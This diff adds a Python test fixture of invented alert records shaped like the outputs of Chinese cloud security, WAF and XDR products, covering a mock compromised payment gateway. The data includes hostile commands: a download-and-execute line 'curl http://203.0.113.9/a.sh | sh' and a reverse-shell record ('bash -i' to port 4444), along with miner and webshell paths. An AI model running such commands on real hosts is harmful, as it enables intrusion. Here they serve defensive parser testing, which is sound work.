@@ -1,0 +1,167 @@
+"""One record of each Chinese source, in the shape of its public documentation; every value is invented."""
+
+import json
+from typing import Any
+
+_MACHINE = {
+    "WanIP": "198.51.100.15",
+    "PrivateIP": "10.0.3.15",
+    "NetworkType": 1,
+    "NetworkName": "vpc-example",
+    "InstanceID": "ins-example1",
+    "HostName": "pay-gateway-3",
+}
+_TENCENT = {"Uuid": "a1b2-example", "Quuid": "q1-example", "MachineExtraInfo": _MACHINE}
+MALWARE: dict[str, Any] = {
+    **_TENCENT, "HostIp": "10.0.3.15", "Alias": "支付网关 3", "FilePath": "/tmp/.x/kinsing",
+    "VirusName": "Linux.Trojan.Miner", "Status": 4, "Id": 101, "Tags": [], "FileCreateTime": "2026-11-20 08:00:00",
+    "FileModifierTime": "2026-11-20 08:10:00", "CreateTime": "2026-11-20 08:30:00",
+    "LatestScanTime": "2026-11-20 09:30:00", "Level": 3, "CheckPlatform": "1,5", "ProcessExists": 1, "FileExists": 1,
+    "MD5": "ab" * 16, "DoClean": True, "FirstDetectionMethod": 1,
+}  # fmt: skip
+BRUTE: dict[str, Any] = {
+    **_TENCENT, "Id": 7, "MachineIp": "10.0.3.15", "MachineName": "支付网关 3", "UserName": "root",
+    "SrcIp": "203.0.113.66", "Status": "SUCCESS", "Country": 1, "City": 0, "Province": 0,
+    "CreateTime": "2026-11-20 08:30:00", "BanStatus": 1, "EventType": 300, "Count": 57, "IsProVersion": True,
+    "Protocol": "sshd", "Port": 22, "ModifyTime": "2026-11-20 08:40:00", "InstanceId": "ins-example1", "DataStatus": 0,
+    "Location": "境外", "RiskLevel": 2, "DataFrom": 0, "AttackStatusDesc": "破解成功",
+}  # fmt: skip
+LOGIN: dict[str, Any] = {
+    **_TENCENT, "Id": 8, "MachineIp": "10.0.3.15", "MachineName": "支付网关 3", "UserName": "root",
+    "SrcIp": "203.0.113.66", "Status": 2, "LoginTime": "2026-11-20 08:30:00", "RiskLevel": 0, "Location": "境外",
+    "HitRule": "risk_login_2", "HitRuleName": "密码破解成功后登录",
+}  # fmt: skip
+COMMAND: dict[str, Any] = {
+    **_TENCENT, "Id": 9, "HostIp": "10.0.3.15", "User": "root", "BashCmd": "curl http://203.0.113.9/a.sh | sh",
+    "RuleId": 12, "RuleName": "下载并执行脚本", "RuleLevel": 1, "Status": 0, "CreateTime": "2026-11-20 08:30:00",
+    "MachineName": "支付网关 3", "Exe": "/usr/bin/bash",
+}  # fmt: skip
+SHELL: dict[str, Any] = {
+    **_TENCENT, "Id": 10, "Hostip": "10.0.3.15", "DstIp": "203.0.113.9", "DstPort": 4444, "ProcessName": "bash",
+    "FullPath": "/usr/bin/bash", "CmdLine": "bash -i", "UserName": "www", "Status": 0, "RiskLevel": 1,
+    "CreateTime": "2026-11-20 08:30:00", "MachineName": "支付网关 3",
+}  # fmt: skip
+PRIVILEGE: dict[str, Any] = {
+    **_TENCENT, "Id": 11, "Hostip": "10.0.3.15", "ProcessName": "su", "FullPath": "/tmp/su", "CmdLine": "/tmp/su",
+    "UserName": "www", "ProcFilePrivilege": "-rwsr-xr-x", "Status": 3, "CreateTime": "2026-11-20 08:30:00",
+}  # fmt: skip
+DNS: dict[str, Any] = {
+    "Id": 12, "PolicyId": 3, "PolicyName": "矿池域名", "HostId": "q1-example", "HostName": "pay-gateway-3",
+    "HostIp": "10.0.3.15", "WanIp": "198.51.100.15", "AgentId": "a1b2-example", "Domain": "pool.example.net",
+    "AccessCount": 5, "HandleStatus": 0, "FirstTime": "2026-11-20 08:30:00", "LastTime": "2026-11-20 09:30:00",
+    "ThreatDesc": "连接矿池", "ReferenceLink": "https://example.com/mining",
+}  # fmt: skip
+
+
+def tencent(name: str, *records: dict[str, Any]) -> dict[str, Any]:
+    """The answer of the API with these records under that name."""
+    return {"Response": {name: list(records), "TotalCount": len(records), "RequestId": "r-1"}}
+
+
+HSS: dict[str, Any] = {
+    "event_id": "0ab1-example", "event_class_id": "malware_0001", "event_type": 1004, "event_name": "木马",
+    "severity": "High", "host_name": "pay-gateway-3", "host_id": "5c1e0000-example", "private_ip": "10.0.3.15",
+    "public_ip": "198.51.100.15", "os_type": "Linux", "attack_phase": "installation", "attack_tag": "attack_success",
+    "occur_time": 1795134600000, "handle_status": "unhandled", "event_count": 2, "description": "发现木马文件",
+    "recommendation": "隔离文件", "resource_info": {"vm_name": "pay-gateway-3", "vm_uuid": "5c1e0000-example"},
+    "process_info_list": [{"process_path": "/tmp/.x/kinsing", "process_cmdline": "/tmp/.x/kinsing -o 203.0.113.9"}],
+    "user_info_list": [{"user_name": "root", "login_ip": "203.0.113.66"}],
+    "file_info_list": [{"file_path": "/tmp/.x/kinsing", "file_sha256": "cd" * 32}],
+    "operate_detail_list": [{"keyword": "k", "login_ip": ""}],
+}  # fmt: skip
+SECMASTER: dict[str, Any] = {
+    "id": "b7e0-example", "type": "DATA_SOURCE", "workspace_id": "w-1", "data_object": {
+        "id": "b7e0-example", "title": "ECS 对外攻击", "description": "发现对外扫描", "severity": "Fatal",
+        "confidence": 80, "first_observed_time": "2026-11-20T08:30:00.000Z+0800",
+        "last_observed_time": "2026-11-20T09:30:00.000Z+0800", "count": 3, "handle_status": "Open",
+        "data_source": {"product_name": "hss", "product_feature": "hss"},
+        "alert_type": {"category": "网络攻击", "alert_type": "对外扫描"},
+        "network_list": [{"direction": "OUT", "src_ip": "10.0.3.15", "dest_ip": "203.0.113.9", "dest_port": 22}],
+        "resource_list": [{"id": "5c1e0000-example", "name": "pay-gateway-3", "type": "cloudservers"}],
+        "user_info": [{"user_name": "root"}], "process": [{"process_path": "/tmp/scan"}],
+        "remediation": {"recommendation": "隔离主机", "url": ""},
+    },
+}  # fmt: skip
+SAFELINE: dict[str, Any] = {
+    "scheme": "http", "src_ip": "203.0.113.66", "src_port": 53008, "socket_ip": "10.0.1.1",
+    "upstream_addr": "10.0.3.20", "req_start_time": 1795134600749, "host": "shop.example.com", "method": "GET",
+    "query_string": "", "event_id": "32be0ce3ba6c44be9ed7e1235f9e0001", "site_uuid": "35",
+    "site_url": "http://shop.example.com:8083", "req_rule_id": "m_rule/9bf31c7f", "country": "US",
+    "timestamp": 1795134600, "payload": "", "location": "urlpath", "rule_id": "m_rule/9bf31c7f",
+    "timestamp_human": "2026-11-20 08:30:00", "module": "m_rule", "reason": "", "dest_port": 8083,
+    "dest_ip": "10.0.3.20", "urlpath": "/webshell.php", "protocol": "http", "attack_type": "backdoor",
+    "risk_level": "high", "action": "deny", "req_block_reason": "web",
+}  # fmt: skip
+SKYEYE: dict[str, Any] = {
+    "_origin": {"uri": "/download/a.bat", "vuln_desc": "发现疑似脚本文件下载", "solution": "确认是否合规"},
+    "alarm_sip": "10.0.3.15", "attack_sip": "203.0.113.66", "alarm_id": "20261120_example", "attack_type": "文件下载",
+    "first_access_time": "2026-11-20T08:30:00.000+0800", "access_time": "2026-11-20T09:30:00.000+0800",
+    "hazard_level": 4, "hazard_rating": "中危", "host_state": "攻击成功", "ioc": "268572087-疑似下载脚本文件",
+    "is_white": 0, "repeat_count": 1, "rule_id": "0x100215b7", "super_type": "攻击利用", "type": "文件下载",
+    "vuln_type": "疑似下载脚本文件", "att_ck": "初始访问:TA0001|利用面向公众的应用程序:T1190", "host": "dl.example.com",
+    "file_name": "a.bat", "file_md5": "ab" * 16, "sip": "10.0.3.15", "dip": "203.0.113.66", "confidence": "高",
+    "skyeye_type": "webids-webattack_dolog", "x_forwarded_for": "",
+}  # fmt: skip
+TDP: dict[str, Any] = {
+    "time": 1795134600, "timeStr": "2026-11-20T08:30:00+08:00", "direction": "in", "machine": "10.0.3.15",
+    "machine_port": 9443, "external_ip": "203.0.113.66", "external_port": 53354, "attacker": "203.0.113.66",
+    "victim": "10.0.3.15", "data": "shop.example.com/web-inf/web.xml", "incident_id": "0845-1795134600",
+    "behave_uuid": "unix-socket-1", "net": {
+        "src_ip": "203.0.113.66", "src_port": 53354, "dest_ip": "10.0.3.15", "dest_port": 9443,
+        "real_src_ip": "203.0.113.66", "proto": "TCP", "type": "http",
+        "http": {"method": "GET", "status": 404, "url": "/WEB-INF/web.xml"},
+    },
+    "threat": {
+        "module": "tdps", "suuid": "DHb44f5d0001", "level": "attack", "name": "爆破敏感文件",
+        "msg": "检测到爆破 URL 路径", "severity": 1, "type": "recon", "confidence": 60, "result": "failed",
+        "tag": ["猜测敏感文件"], "phase": "recon",
+    },
+    "assets": {"id": 81, "ip": "10.0.0.0/8", "section": "服务器"},
+}  # fmt: skip
+XDR_ALERT: dict[str, Any] = {
+    "uuId": "alert-example-1", "name": "通用 SQL 注入攻击", "severity": 70, "srcIp": ["203.0.113.66"],
+    "srcPort": [12345], "dstIp": ["10.0.3.15"], "dstPort": [80], "hostIp": "10.0.3.15", "devSourceName": ["STA"],
+    "threatSubTypeDesc": "SQL注入", "firstTime": 1795134600, "lastTime": 1795138200, "attackState": 2,
+    "alertDealStatus": 1, "alertDealAction": "待处置", "riskTag": ["SQL注入"], "fileMd5": [], "domain": [], "url": [],
+}  # fmt: skip
+XDR_INCIDENT: dict[str, Any] = {
+    "uuId": "incident-example-1", "name": "主机失陷", "description": "主机存在挖矿行为", "incidentSeverity": 3,
+    "dealStatus": 0, "startTime": 1795134600, "endTime": 1795138200, "hostIp": "10.0.3.15",
+    "threatDefineName": ["挖矿"], "riskTag": ["挖矿"], "alertIds": ["alert-example-1"],
+}  # fmt: skip
+
+
+def xdr(*records: dict[str, Any]) -> dict[str, Any]:
+    """The answer of alerts/list or incidents/list."""
+    return {
+        "code": "Success",
+        "message": "成功",
+        "data": {"total": len(records), "page": 1, "pageSize": 10, "item": list(records)},
+    }
+
+
+def line(header: str, record: dict[str, Any]) -> str:
+    """A line of a log that carries a record."""
+    return header + json.dumps(record, ensure_ascii=False)
+
+
+# Per source: a whole file as it comes.
+FILES: dict[str, tuple[str, Any]] = {
+    "tencent malware": ("tencent_cwp", tencent("MalWareList", MALWARE)),
+    "tencent brute": ("tencent_cwp", tencent("BruteAttackList", BRUTE)),
+    "tencent login": ("tencent_cwp", tencent("HostLoginList", LOGIN)),
+    "tencent command": ("tencent_cwp", tencent("List", COMMAND)),
+    "tencent shell": ("tencent_cwp", tencent("List", SHELL)),
+    "tencent privilege": ("tencent_cwp", tencent("List", PRIVILEGE)),
+    "tencent dns": ("tencent_cwp", tencent("List", DNS)),
+    "huawei_hss": ("huawei_hss", {"total_num": 1, "data_list": [HSS]}),
+    "huawei_secmaster": ("huawei_secmaster", {"code": "0", "total": 1, "success": True, "data": [SECMASTER]}),
+    "safeline": (
+        "safeline",
+        line("<30>1 2026-11-20T08:30:01+08:00 waf-1 /matio/mario 1 safeline_event - ", SAFELINE),
+    ),
+    "skyeye": ("skyeye", line("<12>Nov 20 08:30:01 skyeye: 2026-11-20|!10.0.9.9|!alarm|!", SKYEYE)),
+    "tdp": ("tdp", line("<1>2026-11-20T08:30:01+08:00 tdp-1 Threatbook[366830]: ", TDP)),
+    "sangfor alert": ("sangfor_xdr", xdr(XDR_ALERT)),
+    "sangfor incident": ("sangfor_xdr", xdr(XDR_INCIDENT)),
+}
